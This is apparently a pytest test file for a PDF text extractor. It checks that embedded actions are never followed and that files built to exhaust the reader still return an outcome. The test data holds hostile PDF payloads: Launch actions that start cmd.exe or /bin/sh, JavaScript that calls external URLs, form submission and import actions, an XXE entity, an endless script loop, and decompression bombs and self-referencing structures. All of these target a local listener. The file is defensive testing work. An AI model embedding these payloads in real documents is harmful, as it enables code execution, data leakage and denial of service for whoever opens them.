# SPDX-FileCopyrightText: 2026 The Vorlage authors
# SPDX-License-Identifier: Apache-2.0
"""PDFs made to call home, to start programs or to exhaust their reader: their text is read, and nothing else happens.

The actions are those of ISO 32000-2, 12.6.4, each on every trigger of 12.6.3 that a viewer would follow unasked.
"""

from __future__ import annotations

import re
import socket
import time
import zlib
from collections.abc import Callable, Iterator

import pytest

from vorlage.domain.custody import Outcome
from vorlage.extraction.reader import Extracted

Read = Callable[..., Extracted]
_STATED = {Outcome.READ, Outcome.DAMAGED, Outcome.REFUSED, Outcome.ENCRYPTED, Outcome.EMPTY}
_WORDS = "Nobody was told"

ACTIONS = {
    "uri": "<</S/URI/URI(http://{at}/uri)>>",
    "launch-windows": "<</S/Launch/Win<</F(cmd.exe)/P(/c ping {at})>>>>",
    "launch-file": "<</S/Launch/F(/bin/sh)/NewWindow true>>",
    "launch-share": "<</S/Launch/F(\\\\\\\\{at}\\\\share\\\\run.exe)>>",
    "script-url": "<</S/JavaScript/JS(app.launchURL\\('http://{at}/'\\))>>",
    "script-submit": "<</S/JavaScript/JS(this.submitForm\\('http://{at}/'\\))>>",
    "script-soap": "<</S/JavaScript/JS(SOAP.connect\\('http://{at}/'\\))>>",
    "script-loop": "<</S/JavaScript/JS(while\\(true\\){{}})>>",
    "submit": "<</S/SubmitForm/F<</FS/URL/F(http://{at}/form)>>/Flags 4>>",
    "import": "<</S/ImportData/F(http://{at}/data.fdf)>>",
    "go-remote": "<</S/GoToR/F(http://{at}/other.pdf)/D[0/Fit]>>",
    "go-share": "<</S/GoToR/F(\\\\\\\\{at}\\\\share\\\\other.pdf)/D[0/Fit]>>",
    "go-embedded": "<</S/GoToE/F(http://{at}/other.pdf)/D[0/Fit]/NewWindow true>>",
    "rendition": "<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(http://{at}/a.mp4)>>/CT(video/mp4)>>>>>>",
    "endless": "<</S/URI/URI(http://{at}/)/Next 20 0 R>>",
}
TRIGGERS = {
    "catalog": "/OpenAction 20 0 R",
    "closing": "/AA<</WC 20 0 R/WS 20 0 R/DS 20 0 R/WP 20 0 R/DP 20 0 R>>",
    "page": "",
    "link": "",
    "field": "/AcroForm<</Fields[6 0 R]/NeedAppearances true/CO[6 0 R]>>",
}
PARTS = {
    "stream-elsewhere": "7 0 obj<</Length 0/FS/URL/F(http://{at}/stream)>>stream\n\nendstream endobj\n",
    "form-in-xml": (
        "7 0 obj<</Length 130>>stream\n<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'http://{at}/xfa'>]>"
        "<xdp><template>&e;</template></xdp>\nendstream endobj\n"
    ),
    "attachment-elsewhere": "7 0 obj<</Type/Filespec/FS/URL/F(http://{at}/attached)/EF<</F 8 0 R>>>>endobj\n",
}


def pdf_of(objects: dict[int, str | bytes], extra: str = "") -> bytes:
    """A PDF with these numbered objects and a right table of where they stand."""
    held = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(held)
        held += f"{number} 0 obj\n".encode() + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    start, size = len(held), max(objects) + 1
    held += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        held += f"{places[number]:010d} 00000 n \n".encode() if number in places else b"0000000000 65535 f \n"
    return bytes(held) + f"trailer<</Size {size}/Root 1 0 R{extra}>>\nstartxref\n{start}\n%%EOF\n".encode()


def stream(body: bytes, words: str = "") -> bytes:
    """A stream object with its right length."""
    return f"<</Length {len(body)}{words}>>stream\n".encode() + body + b"\nendstream"


def page_objects(root: str = "", page: str = "", content: bytes = b"") -> dict[int, str | bytes]:
    """One page with our words on it."""
    shown = content or f"BT /F1 12 Tf 72 700 Td ({_WORDS}) Tj ET".encode()
    return {
        1: f"<</Type/Catalog/Pages 2 0 R{root}>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>{page}>>",
        4: stream(shown),
        5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


@pytest.fixture
def home() -> Iterator[str]:
    """A place on this machine that a hostile file may try to call; nobody may have, when the test is over."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield f"127.0.0.1:{listener.getsockname()[1]}"
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("action", ACTIONS)
def test_an_action_is_not_followed(read: Read, home: str, action: str, trigger: str) -> None:
    """The words of the page are read as if the action were not there."""
    on_page = {
        "page": "/AA<</O 20 0 R/C 20 0 R>>",
        "link": "/Annots[6 0 R]",
        "field": "/Annots[6 0 R]",
    }
    objects = page_objects(TRIGGERS[trigger], on_page.get(trigger, ""))
    objects[6] = (
        "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 99 99]/A 20 0 R/AA<</K 20 0 R/F 20 0 R/C 20 0 R>>>>"
        if trigger == "field"
        else "<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 20 0 R/AA<</E 20 0 R/PO 20 0 R/PV 20 0 R>>>>"
    )
    objects[20] = ACTIONS[action].format(at=home)
    extracted = read(pdf_of(objects))
    assert extracted.outcome is Outcome.READ
    assert _WORDS in extracted.pages[0].text


@pytest.mark.parametrize("part", PARTS)
def test_a_part_that_lies_elsewhere_is_not_fetched(read: Read, home: str, part: str) -> None:
    """Streams, forms and attachments that name an address."""
    objects = page_objects("/AcroForm<</XFA 7 0 R/Fields[]>>/Names<</EmbeddedFiles<</Names[(a) 7 0 R]>>>>")
    objects[7] = PARTS[part].format(at=home).removeprefix("7 0 obj").removesuffix("endobj\n")
    extracted = read(pdf_of(objects))
    assert extracted.outcome in _STATED
    assert _WORDS in extracted.pages[0].text


def nested_forms() -> bytes:
    """Each form draws the next twice, sixty deep."""
    objects = page_objects(page="/Resources<</XObject<</X 30 0 R>>>>", content=b"/X Do")
    for depth in range(30, 90):
        inner = f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {min(depth + 1, 89)} 0 R>>>>"
        objects[depth] = stream(b"/X Do /X Do", inner)
    return pdf_of(objects)


def patterns_of_patterns() -> bytes:
    """A pattern painted with itself."""
    inner = "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001"
    own = f"{inner}/Resources<</Pattern<</P 30 0 R>>>>"
    objects = page_objects(page="/Resources<</Pattern<</P 30 0 R>>>>", content=b"/Pattern cs /P scn 0 0 600 700 re f")
    objects[30] = stream(b"/Pattern cs /P scn 0 0 1 1 re f", own)
    return pdf_of(objects)


def packed(times: int, body: bytes) -> bytes:
    """A stream packed over and over again."""
    for _ in range(times):
        body = zlib.compress(body, 9)
    return stream(body, f"/Filter[{'/FlateDecode' * times}]")


def with_content(body: bytes) -> bytes:
    """A page whose content is this stream."""
    return pdf_of({**page_objects(), 4: body})


def picture_of(side: int) -> bytes:
    """A page with an image that claims this many pixels a side."""
    objects = page_objects(page="/Resources<</XObject<</I 30 0 R>>>>", content=b"600 0 0 700 0 0 cm /I Do")
    facts = f"/Type/XObject/Subtype/Image/Width {side}/Height {side}/ColorSpace/DeviceRGB/BitsPerComponent 8"
    objects[30] = stream(zlib.compress(bytes(1 << 20)), f"{facts}/Filter/FlateDecode")
    return pdf_of(objects)


EXHAUSTING: dict[str, Callable[[], bytes]] = {
    "page tree that is its own child": lambda: pdf_of({**page_objects(), 2: "<</Type/Pages/Kids[2 0 R]/Count 9>>"}),
    "page tree of a billion": lambda: pdf_of({**page_objects(), 2: "<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"}),
    "page named a thousand times": lambda: pdf_of(
        {**page_objects(), 2: f"<</Type/Pages/Kids[{'3 0 R ' * 1000}]/Count 1000>>"}
    ),
    "deep arrays": lambda: pdf_of({**page_objects(), 30: "[" * 200_000 + "]" * 200_000}),
    "deep dictionaries": lambda: pdf_of(
        {**page_objects(page="/X 30 0 R"), 30: "<</A" * 100_000 + " 1" + ">>" * 100_000}
    ),
    "deep strings": lambda: with_content(stream(b"(" * 500_000)),
    "deep graphic states": lambda: with_content(stream(b"q " * 2_000_000)),
    "forms in forms": nested_forms,
    "patterns in patterns": patterns_of_patterns,
    "stream packed three times": lambda: with_content(packed(3, b" " * (300 << 20))),
    "stream of many words": lambda: with_content(packed(1, b"BT /F1 1 Tf (aaaaaaaaaaaaaaaa) Tj ET " * 500_000)),
    "contents that are their own part": lambda: pdf_of({**page_objects(), 4: "[4 0 R 4 0 R]"}),
    "length that is its own length": lambda: pdf_of(
        {**page_objects(), 4: b"<</Length 4 0 R>>stream\nBT ET\nendstream"}
    ),
    "length below nothing": lambda: pdf_of({**page_objects(), 4: b"<</Length -1>>stream\nBT ET\nendstream"}),
    "filter that is not there": lambda: with_content(stream(b"x", "/Filter/NoSuchDecode")),
    "thousand filters": lambda: with_content(stream(b"x" * 99, f"/Filter[{'/ASCIIHexDecode' * 1000}]")),
    "sheet beyond the sky": lambda: re.sub(rb"612 792", b"1e38 1e38", pdf_of(page_objects())),
    "sheet without sides": lambda: re.sub(rb"612 792", b"0 0", pdf_of(page_objects())),
    "picture of 30,000 pixels a side": lambda: picture_of(30_000),
    "picture of a billion pixels a side": lambda: picture_of(1_000_000_000),
    "table that is its own forerunner": lambda: pdf_of(page_objects(), "/Prev 9"),
    "table far away": lambda: re.sub(rb"startxref\n\d+", b"startxref\n99999999999", pdf_of(page_objects())),
    "nothing but a head": lambda: b"%PDF-1.7\n",
    "head after a thousand bytes": lambda: b"x" * 1000 + pdf_of(page_objects()),
    "cut in the middle": lambda: pdf_of(page_objects())[:400],
    "unknown encryption": lambda: pdf_of({**page_objects(), 30: "<</Filter/Own/V 99>>"}, "/Encrypt 30 0 R"),
    "outline that goes round": lambda: pdf_of(
        {
            **page_objects("/Outlines 30 0 R"),
            30: "<</First 31 0 R/Last 31 0 R/Count 9>>",
            31: "<</Title(a)/Next 31 0 R/First 30 0 R>>",
        }
    ),
    "names that go round": lambda: pdf_of(
        {**page_objects("/Names<</EmbeddedFiles 30 0 R>>"), 30: "<</Kids[30 0 R 30 0 R]>>"}
    ),
    "fields that go round": lambda: pdf_of(
        {**page_objects("/AcroForm<</Fields[30 0 R]>>"), 30: "<</T(a)/Kids[30 0 R]/Parent 30 0 R/FT/Tx/V(b)>>"}
    ),
}


@pytest.mark.parametrize("trick", EXHAUSTING)
def test_a_pdf_that_would_exhaust_its_reader_has_an_outcome(read: Read, trick: str) -> None:
    """Soon, well within the limit, and with a reason unless it was read."""
    held = EXHAUSTING[trick]()
    began = time.monotonic()
    extracted = read(held, f"{len(trick)}.pdf")
    assert time.monotonic() - began < 60
    assert extracted.outcome in _STATED
    assert extracted.reason or extracted.outcome in {Outcome.READ, Outcome.EMPTY}
